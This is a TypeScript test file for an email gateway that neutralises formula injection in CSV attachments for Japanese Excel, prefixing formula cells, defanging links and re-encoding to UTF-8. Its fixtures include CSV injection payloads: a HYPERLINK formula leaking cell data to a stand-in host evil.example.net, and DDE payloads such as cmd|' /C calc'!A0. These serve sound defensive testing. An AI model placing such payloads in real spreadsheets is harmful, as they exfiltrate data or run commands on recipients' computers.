// CSV crosses as CSV that Japanese Excel opens as it was: text/csv, named
// .csv, UTF-8 with a byte order mark, comma-separated, CRLF, with every cell
// that a spreadsheet would run as a formula prefixed by an apostrophe, plain
// numbers untouched, and the table's shape unchanged. A CSV the parser
// refuses crosses as text/plain, neutralised as well as it can be.
import { parse } from 'csv-parse/sync';
import iconv from 'iconv-lite';
import { describe, expect, it } from 'vitest';
import { detectSeparator, neutraliseCsv } from '../../src/core/csv.js';
import { csvViolations, violations } from '../helpers/conformance.js';
import { run, withAttachments, type Outcome, type PartSpec } from '../helpers/run.js';

const read = (text: string): string[][] => parse(text, { relax_column_count: true, skip_empty_lines: false, bom: true }) as string[][];
const shape = (rows: string[][]): number[] => rows.map((r) => r.length);

const FORMULAS = [
  '=HYPERLINK("https://evil.example.net/?q="&A1,"詳細")',
  '=1+2',
  '+81-3-1234-5678',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(A1:A9)',
  '＝SUM(A1)',
  '＋1',
  '－1+1',
  '＠SUM(A1)',
  '\t=1+2',
  ' =1+2',
  '=cmd|"/c calc"!A1',
];
const PLAIN = ['-5', '+3.2', '1,000', '-1,234.5', '10%', '0', '', '山田', '東京都千代田区', "'=already", 'a=b', '3-1'];

describe('neutraliseCsv', () => {
  it('prefixes every formula cell with an apostrophe, wherever it is in the row', () => {
    for (const f of FORMULAS) {
      const input = `名前,値,備考\n山田,"${f.replace(/"/g, '""')}",x\n"${f.replace(/"/g, '""')}",1,2\n`;
      const { text, neutralised } = neutraliseCsv(input);
      expect(neutralised, f).toBe(2);
      const rows = read(text);
      // A link in a cell is made inert like any text we deliver.
      // A TAB would split the cell for a spreadsheet reading TABs: the formula after it is neutralised too.
      const inert = f.replace('https://evil.example.net/', 'hxxps://evil[.]example[.]net/').replace('\t=', "\t'=");
      expect(rows[1]![1], f).toBe(`'${inert}`);
      expect(rows[2]![0], f).toBe(`'${inert}`);
      expect(shape(rows)).toEqual(shape(read(input)));
    }
  });

  it('neutralises an unquoted formula too', () => {
    const { text, neutralised } = neutraliseCsv('a,=1+2,@A1\n');
    expect(neutralised).toBe(2);
    expect(read(text)).toEqual([['a', "'=1+2", "'@A1"]]);
  });

  it('leaves plain numbers and ordinary text alone', () => {
    const row = PLAIN.map((c) => `"${c}"`).join(',');
    const { text, neutralised } = neutraliseCsv(`${row}\n`);
    expect(neutralised).toBe(0);
    expect(read(text)).toEqual([PLAIN]);
  });

  it('keeps quoted cells with commas, quotes and line breaks intact, and the shape of the table', () => {
    const input = ['id,住所,メモ,金額', '1,"札幌市, 北区","一行目\n二行目",-5', '2,"He said ""hi""","=1+2\n=3+4",+3.2', '3,,,', '4'].join('\n') + '\n';
    const { text, neutralised } = neutraliseCsv(input);
    expect(neutralised).toBe(1);
    const before = read(input);
    const after = read(text);
    expect(shape(after)).toEqual(shape(before));
    expect(after).toEqual([['id', '住所', 'メモ', '金額'], ['1', '札幌市, 北区', '一行目\n二行目', '-5'], ['2', 'He said "hi"', "'=1+2\n=3+4", '+3.2'], ['3', '', '', ''], ['4']]);
  });

  it('keeps empty lines as rows and ends with one line break', () => {
    const { text } = neutraliseCsv('a,b\n\nc,d');
    expect(text).toBe('a,b\n\nc,d\n');
  });

  it('still neutralises a quoted formula when an unclosed quote elsewhere stops the parser', () => {
    // csv-parse throws on the unclosed quote in the last line; Excel still
    // reads the first line's quoted cell as a formula.
    const input = '"=HYPERLINK(""https://evil.example.net/"",""click"")",ok\n"+cmd|\' /C calc\'!A0",x\n-5,"unclosed,y\n';
    expect(() => read(input)).toThrow();
    const { text, neutralised } = neutraliseCsv(input);
    expect(neutralised).toBe(2);
    const lines = text.split('\n');
    expect(read(lines[0]!)[0]![0]).toBe('\'=HYPERLINK("hxxps://evil[.]example[.]net/","click")');
    expect(read(lines[1]!)[0]![0]).toBe("'+cmd|' /C calc'!A0");
    expect(lines[2]).toMatch(/^-5,/);
  });

  it('neutralises unquoted formula cells when the parser gives up', () => {
    const { text, neutralised } = neutraliseCsv('=1+2,@x,-5\n"open\n');
    expect(neutralised).toBe(2);
    expect(text.split('\n')[0]).toBe("'=1+2,'@x,-5");
  });
});

describe('a CSV attachment end to end', () => {
  const send = async (parts: PartSpec[]): Promise<Outcome> => {
    const o = await run(withAttachments('名簿を送ります。', parts));
    expect(o.result.action).toBe('deliver');
    expect(await violations(o.raw!)).toEqual([]);
    return o;
  };

  const CSV =
    [
      '氏名,電話,備考,金額',
      '髙橋 一郎,+81-3-1234-5678,"=HYPERLINK(""https://evil.example.net/"",""詳細"")",-5',
      '山﨑 花子,03-1234-5678,"@SUM(A1)",+3.2',
      '"佐藤, 次郎",090-0000-0000,"-2+3+cmd|\' /C calc\'!A0","1,000"',
      '鈴木 ①,＝1+1,"二行の\n備考",0',
    ].join('\r\n') + '\r\n';

  const BOM = '\uFEFF';
  const csvText = (o: Outcome, i = 0): string => {
    const bytes = o.mail!.attachments[i]!.content;
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    return new TextDecoder('utf-8', { fatal: true, ignoreBOM: true }).decode(bytes);
  };

  it('delivers Shift_JIS 名簿.csv as 名簿.csv, text/csv, UTF-8 with BOM and CRLF, formulas neutralised', async () => {
    const o = await send([{ type: 'text/csv; charset=Shift_JIS', filename: '名簿.csv', body: iconv.encode(CSV, 'cp932') }]);
    const codes = o.result.findings.filter((f) => f.attachment === 1);
    expect(codes).toEqual([
      { code: 'text-reencoded', attachment: 1, detail: 'CP932 -> UTF-8' },
      { code: 'csv-formula-neutralised', attachment: 1, detail: '5 cells' },
      { code: 'link-defanged', attachment: 1, detail: '1' },
    ]);
    const a = o.mail!.attachments[0]!;
    expect(a.filename).toBe('名簿.csv');
    expect(a.contentType).toBe('text/csv');
    expect(o.raw!.toString('latin1')).toMatch(/^Content-Type: text\/csv; charset=utf-8; name=/im);
    const text = csvText(o);
    expect(text.startsWith(BOM)).toBe(true);
    // Records end in CRLF; the line break inside the quoted 備考 stays as Excel writes one (LF).
    expect(text.slice(1).split('\r\n')).toEqual([
      '氏名,電話,備考,金額',
      '髙橋 一郎,\'+81-3-1234-5678,"\'=HYPERLINK(""hxxps://evil[.]example[.]net/"",""詳細"")",-5',
      "山﨑 花子,03-1234-5678,'@SUM(A1),+3.2",
      '"佐藤, 次郎",090-0000-0000,\'-2+3+cmd|\' /C calc\'!A0,"1,000"',
      '鈴木 ①,\'＝1+1,"二行の\n備考",0',
      '',
    ]);
    const rows = read(text);
    expect(shape(rows)).toEqual(shape(read(CSV)));
    expect(rows).toEqual([
      ['氏名', '電話', '備考', '金額'],
      ['髙橋 一郎', "'+81-3-1234-5678", '\'=HYPERLINK("hxxps://evil[.]example[.]net/","詳細")', '-5'],
      ['山﨑 花子', '03-1234-5678', "'@SUM(A1)", '+3.2'],
      ['佐藤, 次郎', '090-0000-0000', "'-2+3+cmd|' /C calc'!A0", '1,000'],
      ['鈴木 ①', "'＝1+1", '二行の\n備考', '0'],
    ]);
  });

  it('treats a file declared text/csv as CSV whatever its name, and a .csv as CSV whatever its type', async () => {
    const o = await send([
      { type: 'text/csv; charset=utf-8', filename: 'data.txt', body: 'a,=1+2\n' },
      { type: 'application/octet-stream', filename: 'export.CSV', body: 'a,@SUM(A1)\n' },
      { type: 'text/csv; charset=utf-8', body: '=1,2\n' },
    ]);
    expect(o.result.findings.filter((f) => f.code === 'csv-formula-neutralised').map((f) => f.attachment)).toEqual([1, 2, 3]);
    const atts = o.mail!.attachments;
    expect(atts.map((a) => a.contentType)).toEqual(['text/csv', 'text/csv', 'text/csv']);
    expect(atts[0]!.filename).toBe('data.txt.csv');
    expect(atts[1]!.filename).toBe('export.CSV');
    expect(atts[2]!.filename).toMatch(/\.csv$/);
    expect(atts.map((_, i) => csvText(o, i))).toEqual([`${BOM}a,'=1+2\r\n`, `${BOM}a,'@SUM(A1)\r\n`, `${BOM}'=1,2\r\n`]);
  });

  it('reports no neutralisation for a CSV with only plain values, and changes nothing but the encoding and line ends', async () => {
    const o = await send([{ type: 'text/csv; charset=utf-8', filename: '集計.csv', body: '月,件数\n4月,-5\n5月,+3.2\n' }]);
    expect(o.result.findings.filter((f) => f.attachment === 1).map((f) => f.code)).toEqual(['text-reencoded']);
    expect(csvText(o)).toBe(`${BOM}月,件数\r\n4月,-5\r\n5月,+3.2\r\n`);
  });

  it('a CSV the parser refuses (an unclosed quote) crosses as text/plain, neutralised as well as it can be', async () => {
    const o = await send([{ type: 'text/csv; charset=utf-8', filename: '壊れた.csv', body: '=1+2,@x,-5\n"open\n' }]);
    const a = o.mail!.attachments[0]!;
    expect([a.filename, a.contentType]).toEqual(['壊れた.csv.txt', 'text/plain']);
    expect(a.content.toString('utf8')).toBe("'=1+2,'@x,-5\n\"open\n");
  });
});

describe('a CSV separated by semicolons or TABs', () => {
  const send = async (parts: PartSpec[]): Promise<Outcome> => {
    const o = await run(withAttachments('表を送ります。', parts));
    expect(o.result.action).toBe('deliver');
    expect(await violations(o.raw!)).toEqual([]);
    return o;
  };
  /** The delivered CSV without its byte order mark. */
  const delivered = (o: Outcome, i = 0): string => {
    expect(o.mail!.attachments[i]!.contentType).toBe('text/csv');
    return o.mail!.attachments[i]!.content.toString('utf8').replace(/^\uFEFF/, '');
  };
  const neutralisedAt = (o: Outcome): Array<number | undefined> => o.result.findings.filter((f) => f.code === 'csv-formula-neutralised').map((f) => f.attachment);

  it('TAB: the formula after the TAB is neutralised, and the file delivered comma-separated for Excel', async () => {
    const o = await send([{ type: 'text/csv; charset=utf-8', filename: 'a.csv', body: "a\t=cmd|' /C calc'!A0\n名前\t-5\n" }]);
    expect(delivered(o)).toBe("a,'=cmd|' /C calc'!A0\r\n名前,-5\r\n");
    expect(neutralisedAt(o)).toEqual([1]);
  });

  it('semicolon: a quoted HYPERLINK after the semicolon is neutralised and its link made inert', async () => {
    const body = 'b;=HYPERLINK("http://x.example/a","y")\nc;"=1+2";"1,5"\n';
    const o = await send([{ type: 'text/csv; charset=utf-8', filename: 'a.csv', body }]);
    const text = delivered(o);
    expect(parse(text, { delimiter: ',', relax_column_count: true })).toEqual([
      ['b', '\'=HYPERLINK("hxxp://x[.]example/a","y")'],
      ['c', "'=1+2", '1,5'],
    ]);
    expect(o.codes).toEqual(expect.arrayContaining(['csv-formula-neutralised', 'link-defanged']));
  });

  it('Excel\'s "sep=;" line decides the separator, and is left out of the comma-separated file (with it, Excel ignores the BOM)', async () => {
    const o = await send([{ type: 'text/csv; charset=utf-8', filename: 'a.csv', body: 'sep=;\na,b;@SUM(A1)\n' }]);
    expect(delivered(o)).toBe('"a,b",\'@SUM(A1)\r\n');
  });

  it('comma-separated cells are still read by commas, a formula after a semicolon inside one neutralised too', async () => {
    const o = await send([{ type: 'text/csv; charset=utf-8', filename: 'a.csv', body: 'id,memo\n1,a;=1+2\n2,"x;-3"\n' }]);
    expect(read(delivered(o))).toEqual([
      ['id', 'memo'],
      ['1', "a;'=1+2"],
      ['2', 'x;-3'],
    ]);
  });

  it('a .tsv file and a text/tab-separated-values part are CSV too', async () => {
    const o = await send([
      { type: 'application/octet-stream', filename: 'list.tsv', body: 'a\t+1+1\n' },
      { type: 'text/tab-separated-values; charset=utf-8', filename: 'list.txt', body: 'a\t@x\n' },
    ]);
    expect(neutralisedAt(o)).toEqual([1, 2]);
    expect(o.mail!.attachments.map((a) => [a.filename, a.contentType, a.content.toString('utf8')])).toEqual([
      ['list.tsv.csv', 'text/csv', "\uFEFFa,'+1+1\r\n"],
      ['list.txt.csv', 'text/csv', "\uFEFFa,'@x\r\n"],
    ]);
  });

  it('the parser-refused path splits by the detected separator too', () => {
    const { text, neutralised, separator } = neutraliseCsv('a;=1+2;"=3"\nb;"unclosed,y\n');
    expect(separator).toBe(';');
    expect(neutralised).toBe(2);
    expect(() => read(text)).toThrow();
    expect(text.split('\n')[0]).toBe('a;\'=1+2;"\'=3"');
  });

  it('the parser-refused path takes linear time on a field of spaces', () => {
    const t = performance.now();
    const input = `a,"${' '.repeat(100_000)}x\n`;
    const { text } = neutraliseCsv(input);
    expect(performance.now() - t).toBeLessThan(1000);
    expect(text).toBe(input);
  });

  it('guesses the separator from the first lines, quotes ignored', () => {
    expect(detectSeparator('a,b,c\n1,2,3\n')).toBe(',');
    expect(detectSeparator('a;b;c\n1;"2,5";3\n')).toBe(';');
    expect(detectSeparator('a\tb\n"x;y;z"\t2\n')).toBe('\t');
    expect(detectSeparator('名前;金額\n山田;1,5\n佐藤;2,5\n')).toBe(';');
    expect(detectSeparator('one column\n')).toBe(',');
  });
});

describe('the check of what may cross lets only such CSV through', () => {
  const ok = Buffer.from('\uFEFF名前,値\r\n山田,\'=1+2\r\n"二行\n目",-5\r\n', 'utf8');
  it('accepts what csvForExcel writes', () => {
    expect(csvViolations(ok)).toEqual([]);
  });
  it('refuses a missing byte order mark, a bare LF, a file not ending in CRLF, Shift_JIS and formula cells', () => {
    expect(csvViolations(ok.subarray(3))).toEqual(['csv without a UTF-8 byte order mark']);
    expect(csvViolations(Buffer.from('\uFEFFa,b\nc,d\r\n'))).toEqual(['csv record ending in a bare LF at 3']);
    expect(csvViolations(Buffer.from('\uFEFFa,b'))).toEqual(['csv not ending in CRLF']);
    expect(csvViolations(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), iconv.encode('名前\r\n', 'cp932')]))).toEqual(['csv not UTF-8']);
    expect(csvViolations(Buffer.from('\uFEFFa,=1+2\r\nb,"x;@SUM(A1)"\r\n'))).toEqual(['csv formula cell "=1+2"', 'csv formula cell "x;@SUM(A1)"']);
  });
});
